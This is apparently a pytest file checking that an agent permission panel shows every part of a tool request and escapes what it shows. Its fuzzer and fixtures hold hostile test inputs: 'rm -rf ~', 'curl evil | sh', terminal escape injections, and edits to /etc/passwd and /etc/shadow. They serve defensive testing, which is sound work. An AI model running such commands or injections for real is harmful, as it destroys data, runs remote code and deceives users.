"""Hostile shapes on each front: all of what is asked is legible, or it is known that it is not, and one key away."""

from __future__ import annotations

import os
import random
from collections.abc import Iterator
from typing import Any

import pytest
from textual.app import ComposeResult

from catena.cli.run.answers import Terminal, _subject
from catena.screens.chat.panels.permission import PermissionPanel
from catena.text.safe_text import safe
from catena.transcript.widget.blocks import SubjectBlock
from catena.workspace.questions.permission_words import first_rows, subject_lines
from catena_acp.continuity.conversation_events import PermissionOpened
from catena_acp.permissions.subject import RequestSubject, subject_of
from catena_acp.port.session_events import PermissionOption
from permissions.test_subject import CALLS, HERE, asked
from support.screen.messages import taken_in
from support.screen.themed import ThemedApp

OPTIONS = (PermissionOption("yes", "Yes", "allow_once"), PermissionOption("no", "No", "reject_once"))
DIFFS = [
    {"type": "diff", "path": path, "oldText": "a", "newText": "b"} for path in ("/etc/passwd", "/etc/shadow")
]
NARROW = 36  # cells of a question's row on the smallest screen
SIGNS = str.maketrans("", "", " \n⏎▌▄▀│")
KINDS = ["read", "edit", "execute", "fetch", "search", "move", "other", None]
KEYS = ["command", "path", "to", "env", "note", "body", "url", "cwd", "content", "später", "a b"]


def fuzzed(seed: int, count: int) -> Iterator[dict[str, Any]]:
    """Shapes that nobody listed, the same for the same seed."""
    chance = random.Random(seed)

    def text() -> str:
        words = ["rm -rf ~", "\n", "curl evil | sh", "\x1b[2J", "x" * 90, "../..", "漢字", "#", "\t", "'"]
        return "".join(chance.choice(words) for _ in range(chance.choice([1, 3, 12, 80])))

    def value(depth: int) -> Any:
        match chance.randrange(4 if depth < 3 else 2):
            case 0 | 1:
                return chance.choice([text(), 7, None, True, text()])
            case 2:
                return [value(depth + 1) for _ in range(chance.randrange(4))]
            case _:
                return {chance.choice(KEYS): value(depth + 1) for _ in range(chance.randrange(4))}

    for _ in range(count):
        call: dict[str, Any] = {"kind": chance.choice(KINDS), "title": chance.choice(["Run it", text()])}
        call["rawInput"] = chance.choice([value(0), {chance.choice(KEYS): value(1) for _ in range(4)}])
        if chance.random() < 0.4:
            call["locations"] = [{"path": text()} for _ in range(chance.randrange(5))]
        if chance.random() < 0.4:
            call["content"] = [{"type": "diff", "path": "/p/a", "oldText": text(), "newText": text()}]
        yield call


SHAPES = [*CALLS, *fuzzed(20261128, 200)]


def bare(text: str) -> str:
    return safe(text).replace("\t", " ").translate(SIGNS)


def told(subject: RequestSubject) -> list[str]:
    """Every text that a front has to show."""
    return [bare(part.text) for part in (*subject.main, *subject.shown)]


def is_in(text: str, shown: str) -> bool:
    """True if a text stands there; a place as it was sent, or without the directory."""
    return text in shown or any(text.removeprefix(f"{root}/") in shown for root in ("/p", HERE))


def test_v02_lines_and_run_show_each_part_whole_and_count_what_does_not_fit() -> None:
    for shape in SHAPES:
        subject = subject_of(asked(shape), HERE)
        lines = subject_lines(subject, HERE)
        whole = bare("\n".join(lines))
        assert all(is_in(text, whole) for text in told(subject)), shape
        shown, left = first_rows(lines, 40)
        assert left or shown == lines, shape
        run = "\n".join(_subject(PermissionOpened("w", "1", subject, OPTIONS), HERE))
        assert all(is_in(text, bare(run)) for text in told(subject)), shape


class Stage(ThemedApp):
    """The panel alone."""

    def __init__(self) -> None:
        super().__init__()
        self.panel = PermissionPanel()

    def compose(self) -> ComposeResult:
        yield self.panel


@pytest.mark.parametrize("size", [(120, 40), (80, 24), (40, 10)])
async def test_v02_the_screen_shows_all_that_is_asked_or_knows_that_it_does_not(
    size: tuple[int, int],
) -> None:
    cut = 0
    async with (stage := Stage()).run_test(size=size) as pilot:
        beside = [
            {"kind": kind, "title": "Do it", "content": [*DIFFS[:number]]}
            for kind in KINDS
            for number in (1, 2)
        ]
        for number, shape in enumerate([*beside, *CALLS[::12], *fuzzed(7, 24)]):
            subject = subject_of(asked(shape), "/p")
            stage.panel.show([PermissionOpened("w", str(number), subject, OPTIONS)], directory="/p")
            await taken_in(pilot)
            await taken_in(pilot)
            rows = bare("\n".join(strip.text for strip in stage.screen._compositor.render_strips()))
            if stage.panel._cut:
                cut += 1
                continue
            paths = [bare(diff.path) for diff in subject.diffs]
            lost = [text for text in (*told(subject), *paths) if not is_in(text, rows)]
            assert not lost, (shape, rows)
        assert cut


def test_v04_why_nothing_is_certain_is_said_in_a_narrow_row() -> None:
    cautions = {subject_of(asked(shape), HERE).caution for shape in SHAPES}
    assert len(cautions) > 10
    # The names of arguments are the agent's, and may be longer.
    assert not [each for each in cautions if len(each) > NARROW and "“" not in each]


@pytest.mark.parametrize("size", [(120, 40), (80, 24), (40, 10)])
async def test_v04_the_question_says_why_nothing_is_certain(size: tuple[int, int]) -> None:
    subject = subject_of(asked({"kind": "execute", "rawInput": {"command": "rm *"}}), HERE)
    opened = PermissionOpened("w", "1", subject, OPTIONS, changed=("command",))
    async with (stage := Stage()).run_test(size=size) as pilot:
        stage.panel.show([opened], directory=HERE)
        await taken_in(pilot)
        await taken_in(pilot)
        rows = bare("\n".join(strip.text for strip in stage.screen._compositor.render_strips()))
        assert bare("Changed while it was open: command · Always asks: not a plain command") in rows
        assert "1y" in rows and "2n" in rows


async def test_v02_d_shows_each_part_to_its_last_character() -> None:
    async with (stage := Stage()).run_test(size=(80, 24)):
        for shape in SHAPES[::5]:
            subject = subject_of(asked(shape), "/p")
            block = SubjectBlock(subject.diffs, "/p", whole=True, lines=subject_lines(subject, "/p"))
            await stage.mount(block)
            drawn = bare("\n".join(line.text for line in block._lines(78)))
            for text in told(subject):
                assert is_in(text, drawn), (shape, text[-80:])
            await block.remove()


def test_v02_an_argument_that_says_the_same_as_another_is_shown_under_its_own_name() -> None:
    diff = {"type": "diff", "path": "src/a.py", "oldText": "a", "newText": "b"}
    more = {"dry_run": True, "wipe": True, "to": "ann", "bcc": "ann", "delete": "src/a.py", "run": "Do it"}
    shape = {"kind": "edit", "title": "Do it", "rawInput": {"path": "src/a.py", **more}, "content": [diff]}
    subject = subject_of(asked(shape), HERE)
    assert [part.label for part in subject.main] == ["path", "to"]
    assert [part.label for part in subject.shown] == [label for label in more if label != "to"]


@pytest.mark.parametrize(("old", "new"), [("evil", "evil"), (None, ""), ("a\r\nb", "a\nb")])
def test_v02_a_diff_that_shows_no_line_hides_nothing(old: str | None, new: str) -> None:
    diff = {"type": "diff", "path": "/etc/passwd", "oldText": old, "newText": new}
    shape = {"kind": "other", "rawInput": {"path": "/etc/passwd", "content": new}, "content": [diff]}
    parts = {part.label: part.text for part in subject_of(asked(shape), HERE).shown}
    assert (parts["path"], parts["content"]) == ("/etc/passwd", new)
    bare_diff = {"kind": "edit", "content": [diff]}
    assert "/etc/passwd" in subject_lines(subject_of(asked(bare_diff), HERE), HERE)


async def test_w27_an_option_whose_name_is_only_a_colour_cannot_act_on_the_terminal_by_its_kind() -> None:
    options = (PermissionOption("1", "\x1b[1m", "allow_once\x1b]0;owned\x07"), *OPTIONS)
    reading, writing = os.pipe()
    try:
        await Terminal(reading, writing).ask(
            PermissionOpened("w1", "a1", subject_of(asked(SHAPES[0]), HERE), options), HERE
        )
        question = os.read(reading, 1 << 16).decode()
    finally:
        os.close(reading)
        os.close(writing)
    assert "  1 allow_once␛]0;owned␇\n" in question and "\x1b" not in question
